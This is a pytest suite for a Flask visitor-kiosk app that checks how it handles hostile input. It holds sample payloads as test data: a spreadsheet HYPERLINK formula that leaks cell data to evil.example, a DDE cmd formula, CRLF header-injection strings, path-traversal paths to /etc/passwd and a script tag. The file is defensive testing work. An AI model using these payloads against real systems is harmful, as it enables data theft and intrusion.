"""Hostile input on the real routes: oversized and malformed bodies, invalid UTF-8, NUL bytes,
header injection into emails and downloads, path traversal, spreadsheet formulas in CSVs."""

from __future__ import annotations

import contextlib
import csv
import io
import re
import urllib.parse
from email import message_from_bytes
from email.policy import default as default_policy
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from flask_babel import force_locale, gettext
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from kiosk import create_app
from kiosk.db import get_database
from kiosk.models import Host, Invitation, Site, Visit
from kiosk.notifications.messages import queue_arrival_notifications, send_invitation_email
from kiosk.notifications.outbox import NotifySettings
from kiosk.notifications.sender import build_email
from kiosk.notifications.transports import MailSettings
from tests.fuzzing import SWEEP
from tests.support import assert_security_headers

FRIENDLY = {200, 302, 400, 404, 405, 413}


def _clean(response: Any, allowed: set[int] = FRIENDLY) -> None:
    assert response.status_code in allowed, (response.status_code, response.text[:300])
    assert "Traceback" not in response.get_data(as_text=True)
    assert "Werkzeug" not in response.get_data(as_text=True)


@pytest.fixture
def site(make_site: Any) -> Site:
    return make_site(name="Hostile HQ", field_email="optional", field_phone="optional")


@pytest.fixture
def kiosk(pair: Any, site: Site) -> FlaskClient:
    return pair(site)


@pytest.fixture
def admin(make_staff: Any, login: Any) -> FlaskClient:
    return login(make_staff(role="admin", username="boss"))


# --- bodies ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", ["/check-in", "/check-out", "/invitation", "/language", "/notice", "/pair"]
)
def test_oversized_kiosk_bodies_get_413(kiosk: FlaskClient, path: str):
    response = kiosk.post(path, data={"name": "x" * 300_000, "code": "y"})
    # The notice without details entered sends back to the form without reading the body.
    _clean(response, {302, 413} if path == "/notice" else {413})
    assert_security_headers(response, path)


@pytest.mark.parametrize("path", ["/dashboard/login", "/dashboard/expected/new"])
def test_oversized_dashboard_bodies_get_413(admin: FlaskClient, path: str):
    _clean(admin.post(path, data={"username": "x" * 300_000}), {413})


def test_a_lying_content_length_gets_413_before_the_body_is_read(kiosk: FlaskClient):
    response = kiosk.post(
        "/check-in",
        data=b"name=x",
        content_type="application/x-www-form-urlencoded",
        environ_overrides={"CONTENT_LENGTH": str(10**9)},
    )
    _clean(response, {413})


def test_oversized_multipart_upload_gets_413(admin: FlaskClient, site: Site):
    response = admin.post(
        "/dashboard/admin/hosts/import",
        data={"site": str(site.id), "file": (io.BytesIO(b"a" * 400_000), "hosts.csv")},
        content_type="multipart/form-data",
    )
    _clean(response, {413})


def test_many_fields_and_deeply_nested_names(kiosk: FlaskClient, session: Session):
    nested = "name" + "[x]" * 5000
    many = "&".join(f"f{n}=1" for n in range(20_000))
    for body in (f"{nested}=Ada", many, "name=Ada&" + "&".join(["name=Bo"] * 5000)):
        response = kiosk.post(
            "/check-in", data=body.encode(), content_type="application/x-www-form-urlencoded"
        )
        _clean(response, {200, 302, 400, 413})
    assert session.scalar(select(func.count(Visit.id))) == 0


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("multipart/form-data", b'--x\r\nContent-Disposition: form-data; name="name"\r\n\r\nA'),
        ("multipart/form-data; boundary=x", b"--x\r\nbroken"),
        ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data\r\n\r\n--x--"),
        ("multipart/form-data; boundary=" + "x" * 300, b"--x"),
        ("application/json", b'{"name": "Ada"}'),
        ("application/x-www-form-urlencoded", b"%%%=%%%&&&=&name"),
        ("application/x-www-form-urlencoded; charset=utf-16", "name=Ada".encode("utf-16")),
        ("text/plain", b"\x00\x01\x02"),
    ],
)
def test_malformed_bodies_are_refused_politely(
    kiosk: FlaskClient, admin: FlaskClient, content_type: str, body: bytes
):
    for client, path in ((kiosk, "/check-in"), (admin, "/dashboard/expected/new")):
        response = client.post(path, data=body, content_type=content_type)
        _clean(response, {200, 400, 413, 415})


@pytest.mark.parametrize(
    "body",
    [b'{"name": "Ada"}', b"[" * 5000, b'"\\ud800"', b"[1, 2]", b"3", b'{"name": '],
)
def test_a_json_body_to_a_page_is_415(app_config: dict[str, Any], body: bytes):
    """A page's forms take form fields. With the CSRF token in its header, a JSON body used to
    reach the form, which read it as its data: a list, a string or arrays nested 5,000 deep
    was a 500. Now every such POST is refused before the view, in the page's language."""
    app = create_app({**app_config, "WTF_CSRF_ENABLED": True})
    client = app.test_client()
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', client.get("/dashboard/login").text)
    assert token is not None
    response = client.post(
        "/dashboard/login",
        data=body,
        content_type="application/json",
        headers={"X-CSRFToken": token[1], "Accept-Language": "sv"},
    )
    assert response.status_code == 415, response.text[:300]
    assert "Något var fel med förfrågan" in response.text
    assert_security_headers(response, "/dashboard/login")
    get_database(app).engine.dispose()


# --- invalid UTF-8 and NUL -------------------------------------------------------------------

INVALID_UTF8 = ["%FF", "%C0%AF", "%ED%A0%80", "%F8%88%80%80%80", "%E2%82"]


@pytest.mark.parametrize("raw", INVALID_UTF8)
def test_invalid_utf8_in_form_fields(
    kiosk: FlaskClient, client: FlaskClient, session: Session, raw: str
):
    body = f"name=Ada{raw}&company={raw}&host_query={raw}&ask_reception=y"
    response = kiosk.post(
        "/check-in", data=body.encode(), content_type="application/x-www-form-urlencoded"
    )
    _clean(response)
    login = client.post(
        "/dashboard/login",
        data=f"username={raw}&password={raw}".encode(),
        content_type="application/x-www-form-urlencoded",
    )
    _clean(login, {200})
    _clean(kiosk.post("/check-out", data=f"code={raw}".encode(), content_type=_FORM), {200})


_FORM = "application/x-www-form-urlencoded"


@pytest.mark.parametrize("raw", [*INVALID_UTF8, "%00", "a%00b"])
def test_invalid_utf8_and_nul_in_query_strings_and_paths(
    kiosk: FlaskClient, admin: FlaskClient, client: FlaskClient, site: Site, raw: str
):
    # A NUL in a URL parameter is a bad request everywhere; invalid UTF-8 is replaced.
    query = {400} if "%00" in raw else {200}
    _clean(kiosk.get(f"/hosts?q={raw}"), query)
    _clean(kiosk.get(f"/check-in?problem={raw}"), query)
    _clean(client.get(f"/dashboard/login?next={raw}"), query)
    _clean(client.get(f"/privacy/{site.id}/{raw}"), {404})
    _clean(client.get(f"/{raw}"), {404})
    _clean(client.get(f"/static/css/kiosk{raw}.css"), {404})
    _clean(admin.get(f"/dashboard/audit?action={raw}&page={raw}"), {200, 400})
    _clean(admin.get(f"/dashboard/admin/sites/{site.id}/notices/{raw}/draft"), {404, 405})
    _clean(admin.post(f"/dashboard/admin/sites/{site.id}/notices/{raw}/draft"), {404})


@pytest.mark.parametrize("host", ["a..b", "a" * 64 + ".example"])
@pytest.mark.parametrize("path", ["/check-in", "/dashboard/", "/api/v1/sites", "/nowhere"])
def test_a_host_header_that_cannot_be_read_is_a_400_page(
    client: FlaskClient, admin: FlaskClient, kiosk: FlaskClient, host: str, path: str
):
    """werkzeug refuses such a Host (an empty label, one over 63 characters) before routing,
    and Flask then can build no URL: the error page is a bare one, with no link to build."""
    for browser in (client, admin, kiosk):
        response = browser.get(path, headers={"Host": host, "Accept-Language": "sv"})
        assert response.status_code == 400, (path, response.text[:300])
        if path.startswith("/api/"):
            assert response.mimetype == "application/problem+json"
        else:
            # In the language the browser asked for, as every error page.
            assert '<html lang="sv">' in response.text, response.text
            assert "<h1>Något var fel med förfrågan</h1>" in response.text, response.text
        assert_security_headers(response, path)


def test_invalid_utf8_in_cookies(client: FlaskClient):
    client.set_cookie("session", "\xff\xfe.%FF%00.\u00e9")
    client.set_cookie("kiosk_device", "%FF%00")
    _clean(client.get("/"), {403})
    _clean(client.get("/dashboard/"), {302})


@pytest.mark.parametrize(
    ("path", "fields"),
    [
        ("/check-in", {"name": "Ada\x00", "company": "\x00", "host_query": "Ha\x00"}),
        ("/check-out", {"code": "AB\x00CD"}),
        ("/invitation", {"code": "\x00"}),
    ],
)
def test_nul_bytes_in_kiosk_fields(
    kiosk: FlaskClient, session: Session, path: str, fields: dict[str, str]
):
    _clean(kiosk.post(path, data=fields), {200})
    assert session.scalar(select(func.count(Visit.id))) == 0


def test_nul_bytes_in_staff_fields(client: FlaskClient, admin: FlaskClient, site: Site):
    _clean(client.post("/dashboard/login", data={"username": "bo\x00ss", "password": "x\x00"}))
    _clean(admin.post("/dashboard/history", data={"name": "\x00", "company": "a\x00"}), {200})
    _clean(admin.post("/dashboard/requests", data={"name": "\x00", "email": "\x00@x"}), {200})
    _clean(admin.post("/dashboard/requests/erase", data={"visit": "\x00", "reason": "\x00"}))
    _clean(
        admin.post(
            "/dashboard/admin/hosts/new",
            data={"site": str(site.id), "name": "Ha\x00nna", "email": "h\x00@example.com"},
        ),
        {200},
    )


# --- header injection ------------------------------------------------------------------------

_EMAIL_ON = NotifySettings(email_enabled=True, queue_limit=100, max_attempts=3, retry_seconds=60)
INJECTION = "Ada\r\nBcc: victim@example.com\r\nX-Evil: 1"


def _parsed(message: Any) -> Any:
    return message_from_bytes(message.as_bytes(), policy=default_policy)


@pytest.fixture
def mail() -> MailSettings:
    return MailSettings(
        host="127.0.0.1",
        port=25,
        username=None,
        password=None,
        starttls=False,
        use_ssl=False,
        timeout=1,
        sender="kiosk@example.com",
    )


def test_no_header_injection_in_the_host_email(
    app: Flask, session: Session, site: Site, make_visit: Any, clock: Any, mail: MailSettings
):
    # Names as they could be in the database (the forms refuse line breaks; a database
    # edited by hand or an older version might not have).
    site.name = "HQ\r\nBcc: site@example.com"
    host = Host(site_id=site.id, name="Hanna\nCc: host@evil.example", email="hanna@example.com")
    session.add(host)
    session.commit()
    visit = make_visit(site, INJECTION, host_id=host.id)
    with app.test_request_context():
        queued = queue_arrival_notifications(session, visit, now=clock.now(), settings=_EMAIL_ON)
        session.commit()
        email = next(n for n in queued if n.kind == "host_email")
        parsed = _parsed(build_email(email, mail, now=clock.now(), qr_token=None))
    assert parsed["Bcc"] is None
    assert parsed["Cc"] is None
    assert parsed["X-Evil"] is None
    assert parsed["To"] == "hanna@example.com"
    assert "\n" not in parsed["Subject"]
    assert "Ada" in parsed["Subject"]  # still readable


def test_no_header_injection_in_the_invitation_email(
    app: Flask, session: Session, site: Site, make_invitation: Any, clock: Any, mail: MailSettings
):
    site.name = "HQ\r\nBcc: site@example.com"
    session.commit()
    invitation = make_invitation(site, INJECTION, email="ivy@example.com")
    invitation.email = "ivy@example.com\r\nBcc: victim@example.com"
    session.commit()
    with app.test_request_context():
        notification = send_invitation_email(
            session, invitation, now=clock.now(), settings=_EMAIL_ON
        )
        session.commit()
    assert notification is not None
    parsed = _parsed(build_email(notification, mail, now=clock.now(), qr_token="t" * 24))
    assert parsed["Bcc"] is None
    assert "\n" not in parsed["Subject"]
    assert "\n" not in parsed["To"]


def _downloads(admin: FlaskClient, kiosk: FlaskClient, site: Site, visit: Visit) -> list[Any]:
    with kiosk.session_transaction() as state:
        state["badge_visit_id"] = visit.id
    export = {"site": str(site.id), "date_from": "2026-03-01", "date_to": "2026-03-31"}
    chosen = {"visit": str(visit.id), "language": "en"}
    return [
        kiosk.get("/badge.pdf"),
        admin.get(f"/dashboard/visits/{visit.id}/badge.pdf"),
        admin.get("/dashboard/evacuation.pdf"),
        admin.get("/dashboard/evacuation.csv"),
        admin.post("/dashboard/export", data=export),
        admin.post("/dashboard/requests/export.json", data=chosen),
        admin.post("/dashboard/requests/export.pdf", data=chosen),
        admin.get(f"/dashboard/admin/sites/{site.id}/badges/sample.pdf"),
    ]


def test_download_file_names_never_carry_names_or_line_breaks(
    session: Session, site: Site, kiosk: FlaskClient, admin: FlaskClient, make_visit: Any
):
    site.name = 'HQ"\r\nSet-Cookie: x=1; ../../evil'
    session.commit()
    visit = make_visit(site, 'Ada"\r\nX-Evil: 1/../../etc/passwd')
    responses = _downloads(admin, kiosk, site, visit)
    assert len(responses) == 8
    for response in responses:
        assert response.status_code == 200, response.text[:300]
        disposition = response.headers["Content-Disposition"]
        assert re.fullmatch(r'(inline|attachment); filename="[A-Za-z0-9._-]+"', disposition)
        assert "X-Evil" not in response.headers
        assert_security_headers(response, response.request.path)
        assert all("x=1" not in cookie for cookie in response.headers.getlist("Set-Cookie"))


# --- path traversal --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/static/../pyproject.toml",
        "/static/../../kiosk/app.py",
        "/static/%2e%2e/pyproject.toml",
        "/static/..%2fpyproject.toml",
        "/static/..%5cpyproject.toml",
        "/static/css/..%2f..%2fpyproject.toml",
        "/static/%2e%2e%2f%2e%2e%2fetc/passwd",
        "/static//etc/passwd",
        "/static/..\\..\\pyproject.toml",
        "/static/css/kiosk.css%00.js",
        "/static/%252e%252e/pyproject.toml",
        "/badge.pdf/../../pyproject.toml",
        "/dashboard/visits/..%2f..%2fpyproject.toml/badge.pdf",
        "/dashboard/visits/1%2f..%2f2/badge.pdf",
        "/dashboard/visits/-1/badge.pdf",
        "/dashboard/admin/sites/..%2f1/badges/sample.pdf",
        "/privacy/1/..%2f..%2fpyproject.toml",
        "/dashboard/evacuation.pdf/../../pyproject.toml",
    ],
)
def test_path_traversal_finds_nothing(admin: FlaskClient, site: Site, path: str):
    response = admin.get(path)
    body = response.get_data()
    response.close()
    assert response.status_code in (302, 308, 404), (path, response.status_code)
    assert b"[project]" not in body
    assert b"root:" not in body
    assert b"create_app" not in body
    if response.status_code in (302, 308):
        # A normalised path stays on this site and names no file outside static/.
        location = response.headers["Location"]
        assert location.startswith("/") or location.startswith("http://localhost/")
        assert "pyproject" not in location or not location.startswith("/static")


# --- spreadsheet formulas --------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+46 70 123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_csv_export_neutralises_formulas_and_keeps_the_name_readable(
    session: Session,
    site: Site,
    admin: FlaskClient,
    make_visit: Any,
    make_host: Any,
    formula: str,
):
    host = make_host(site, formula)
    make_visit(site, formula, company=formula, host_id=host.id, purpose=formula)
    site.name = formula
    session.commit()
    exports = {
        "visits": admin.post(
            "/dashboard/export",
            data={"site": str(site.id), "date_from": "2026-03-01", "date_to": "2026-03-31"},
        ),
        "evacuation": admin.get("/dashboard/evacuation.csv"),
    }
    for name, response in exports.items():
        assert response.mimetype == "text/csv", name
        header, *rows = _rows(response.get_data())
        assert len(rows) == 1, (name, rows)
        cells = [cell for cell in rows[0] if formula in cell]
        # Site, name, company and host (and purpose in the visit log): each one neutralised.
        assert len(cells) >= 4, (name, rows[0])
        for cell in cells:
            assert cell == "'" + formula, (name, cell)


def test_csv_import_of_formulas_and_odd_bytes_changes_nothing_on_error(
    admin: FlaskClient, session: Session, site: Site
):
    body = b"name,email\r\n=cmd|' /C calc'!A0,ok@example.com\r\nBo,\xff\xfe@example.com\r\n"
    response = admin.post(
        "/dashboard/admin/hosts/import",
        data={"site": str(site.id), "file": (io.BytesIO(body), "hosts.csv")},
        content_type="multipart/form-data",
    )
    _clean(response, {200, 302})
    if response.status_code == 200:
        assert session.scalar(select(func.count(Host.id))) == 0  # all or nothing


def test_invitation_listing_survives_hostile_names(
    admin: FlaskClient, session: Session, site: Site, make_invitation: Any
):
    make_invitation(site, "<script>alert(1)</script>")
    page = admin.get("/dashboard/")
    assert page.status_code == 200
    assert "<script>alert(1)</script>" not in page.text
    assert session.scalar(select(func.count(Invitation.id))) == 1


# --- numbers, files and error pages ----------------------------------------

#: Values an integer form field or URL id gets from hostile or broken clients.
NOT_AN_ID = [" ", "\t", "\r\n", "\u2028", "\u00a0", "9" * 20, str(2**63), "-1", "١", "1.5", "0x1"]


@pytest.mark.parametrize("value", NOT_AN_ID)
def test_host_id_that_is_not_a_number_is_a_form_answer(
    kiosk: FlaskClient, make_host: Any, site: Site, session: Session, value: str
):
    make_host(site, "Hanna Host")
    response = kiosk.post("/check-in", data={"name": "Ada Lovelace", "host_id": value})
    _clean(response, {200, 302})
    assert session.scalar(select(func.count()).select_from(Visit)) == 0


def _int_rules(app: Flask) -> list[Any]:
    return [rule for rule in app.url_map.iter_rules() if "int:" in rule.rule]


@pytest.mark.parametrize("huge", [2**31, 2**63, 10**20])
def test_every_integer_url_id_beyond_the_database_range_is_404(
    app: Flask, kiosk: FlaskClient, admin: FlaskClient, huge: int
):
    """Every ``<int:...>`` rule of the app, for a kiosk and an admin: a 404, never a 500 (an
    id beyond 64 bits overflowed SQLite's integer binding)."""
    rules = _int_rules(app)
    assert len(rules) >= 20
    for rule in rules:
        values = {arg: huge if arg in rule._converters else "en" for arg in rule.arguments}
        # Built by hand: url_for itself refuses such an id once the converter is bounded.
        path = rule.rule
        for arg, value in values.items():
            path = re.sub(rf"<[^>]*:?{arg}>", str(value), path)
        for client in (kiosk, admin):
            for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
                response = client.open(path, method=method)
                _clean(response, {404, 405})
                assert response.status_code == 404 or method not in rule.methods, path


def test_a_file_sent_as_a_text_field_is_a_clear_400(
    kiosk: FlaskClient, admin: FlaskClient, site: Site, session: Session
):
    upload = {"name": (io.BytesIO(b"Ada Lovelace"), "name.txt"), "host_query": "x"}
    response = kiosk.post("/check-in", data=upload, content_type="multipart/form-data")
    assert response.status_code == 400
    # In the kiosk's language (the site's: Swedish), as its other screens.
    with kiosk.application.test_request_context(), force_locale("sv"):
        refused = gettext("A file was sent where text was expected")
    assert refused != "A file was sent where text was expected"
    assert refused in response.text
    assert session.scalar(select(func.count()).select_from(Visit)) == 0
    # A page that takes a file takes it only under its own name.
    response = admin.post(
        f"/dashboard/admin/hosts/import?site={site.id}",
        data={"site": (io.BytesIO(b"1"), "site.txt"), "file": (io.BytesIO(b"x"), "h.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 400


@pytest.fixture
def failing_statement_routes(app: Flask) -> Flask:
    """Routes whose request runs a statement the database refuses and then fails, as a bug
    would: the error page must still render, on PostgreSQL too, where the failed statement
    aborts the transaction until a rollback."""
    from flask import abort
    from sqlalchemy import text
    from sqlalchemy.exc import DataError, DBAPIError

    from kiosk.db import get_session

    def fail_then(then: Any) -> Any:
        def view() -> Any:
            # Swallowed, as careless code would: the transaction stays aborted.
            with contextlib.suppress(DBAPIError):
                get_session().execute(text("SELECT no_such_column FROM sites"))
            return then()

        return view

    def missing() -> Any:
        abort(404)

    def forbidden() -> Any:
        abort(403)

    def bug() -> Any:
        raise RuntimeError("a bug")

    def refused() -> Any:
        # What the driver raises for a value the database refuses (a NUL in text, a number
        # out of range) that no form check caught.
        raise DataError("UPDATE sites SET name=%(name)s", {}, ValueError("NUL in text"))

    routes = (("missing", missing), ("forbidden", forbidden), ("bug", bug), ("refused", refused))
    for name, then in routes:
        app.add_url_rule(f"/dashboard/test-{name}", f"dashboard.test_{name}", fail_then(then))
    return app


@pytest.mark.parametrize(
    ("name", "status"), [("missing", 404), ("forbidden", 403), ("bug", 500), ("refused", 400)]
)
def test_error_pages_roll_back_before_rendering(
    failing_statement_routes: Flask,
    admin: FlaskClient,
    name: str,
    status: int,
    caplog: pytest.LogCaptureFixture,
):
    failing_statement_routes.config["PROPAGATE_EXCEPTIONS"] = False
    response = admin.get(f"/dashboard/test-{name}")
    assert response.status_code == status, response.text[:500]
    assert "<!doctype html>" in response.text.lower()
    # The staff user's own page: the dashboard layout, which reads the database again.
    assert 'href="/dashboard/"' in response.text
    errors = [r for r in caplog.records if r.levelname in {"ERROR", "CRITICAL"}]
    assert all("\n" not in r.getMessage() and not r.exc_info for r in errors), errors


def test_control_characters_in_a_cups_printer_name_are_a_form_error(
    admin: FlaskClient, site: Site, session: Session
):
    """Found by the field sweep of tests/test_fuzz_forms.py: a NUL printer name was a 500 on
    PostgreSQL (its text cannot hold NUL)."""
    for printer in ("\x00", "lab\x01el", "x\x7f"):
        response = admin.post(
            f"/dashboard/admin/sites/{site.id}/badges",
            data={"preset": "brother-62x100", "print_backend": "browser", "cups_printer": printer},
        )
        _clean(response, {200})
        assert "That is not a CUPS printer name." in response.text
    session.expire_all()
    assert session.get(Site, site.id).cups_printer is None  # type: ignore[union-attr]


def test_views_parse_no_numbers_themselves():
    """Numbers from a request are parsed by WTForms fields (IdField, IntegerField with
    NumberRange) or kiosk.forms.parse_id, never by int() in a view: int() reads " 7\\n", "١"
    and numbers no database column holds. Settings (current_app.config) are not input, and
    int(form.x.data) only narrows the type of a field WTForms has parsed already."""
    from pathlib import Path

    import kiosk

    package = Path(kiosk.__file__).parent
    views = [
        *package.glob("*/routes.py"),
        *package.glob("dashboard/**/*.py"),  # the admin pages are in dashboard/admin/
        *package.glob("registration/*.py"),
    ]
    assert len(views) > 15
    offenders = [
        f"{path.relative_to(package)}:{number}: {line.strip()}"
        for path in views
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if re.search(r"\bint\((?!current_app\.config|form\.)", line)
    ]
    assert offenders == []


# --- query strings ---------------------------------------------------------------------------

#: Query-string values of every hostile class (tests/fuzzing.py's sweep, as text), and real
#: dates at the ends of the calendar.
QUERY_VALUES = [value for value in SWEEP if isinstance(value, str)] + ["0", "1e9", "  7 "]


def _query_parameters(view: Any) -> list[str]:
    """The query-string parameters a view reads, from its source and that of the private
    helpers of its module it calls, and theirs: `request.args.get("x"...)`,
    `request.args["x"]`, `"x" in request.args`."""
    import inspect

    module = inspect.getmodule(view)
    sources, todo = [], [view]
    while todo:
        function = todo.pop()
        source = inspect.getsource(function)
        if source in sources:
            continue
        sources.append(source)
        for name in re.findall(r"\b(_\w+)\(", source):
            helper = getattr(module, name, None)
            if inspect.isfunction(helper):
                todo.append(helper)
    source = "".join(sources)
    found = re.findall(r"request\.args(?:\.get\(|\[)\"(\w+)\"", source)
    found += re.findall(r"\"(\w+)\" in request\.args", source)
    return sorted(set(found))


def test_every_query_parameter_of_every_page_meets_every_hostile_class(
    app: Flask, kiosk: FlaskClient, admin: FlaskClient, site: Site
):
    """Each GET page's view, for every parameter it reads from the query string, given each
    value of QUERY_VALUES, as a kiosk and as an admin: a page or a clear refusal, never a 500
    (an audit log filtered until 9999-12-31 was one)."""
    pages = 0
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        parameters = _query_parameters(app.view_functions[rule.endpoint])
        if not parameters:
            continue
        path = rule.rule
        for argument in rule.arguments:
            path = re.sub(rf"<[^>]*:?{argument}>", str(site.id), path)
        pages += 1
        for parameter in parameters:
            for value in QUERY_VALUES:
                query = urllib.parse.urlencode({parameter: value})
                for client in (kiosk, admin):
                    _clean(client.get(f"{path}?{query}"), {200, 302, 400, 403, 404})
    assert pages >= 8, pages
